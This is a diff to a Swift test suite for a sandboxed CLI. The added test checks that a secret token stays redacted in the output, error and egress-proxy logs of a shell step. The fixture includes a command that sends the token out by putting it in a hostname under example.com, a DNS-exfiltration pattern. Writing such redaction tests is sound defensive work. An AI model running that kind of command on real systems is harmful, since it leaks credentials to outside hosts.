@@ -134,10 +134,12 @@ struct SandboxCLITests {
                   - name: push
                     type: shell
                     secrets: {TOKEN: deploy-token}
+                    network: ["*:*"]
                     run: |
                       echo "token=$TOKEN"
                       printf %s "$TOKEN" | wc -c
                       echo "$TOKEN" >&2
+                      git ls-remote "git://$TOKEN.example.com/x" >/dev/null 2>&1 || true
                 """,
             policy: {
                 $0.replacingOccurrences(
@@ -150,6 +152,8 @@ struct SandboxCLITests {
         #expect(try charter.run(["reconcile", "--once", repo.root.path], environment: environment).status == 0)
         #expect(try artifact(push, "stdout.txt", in: repo) == "token=***\n\(secret.count)")
         #expect(try artifact(push, "stderr.txt", in: repo) == "***")
+        // Even a host named after the secret, which the egress proxy logs, is redacted.
+        #expect(try artifact(push, "network.json", in: repo).contains("***.example.com"))
         // Nowhere on the status branch, in the events or in the data directory's records.
         let grep = try? repo.git("grep", "-F", secret, "charter/status")
         #expect(grep == nil || grep!.isEmpty)
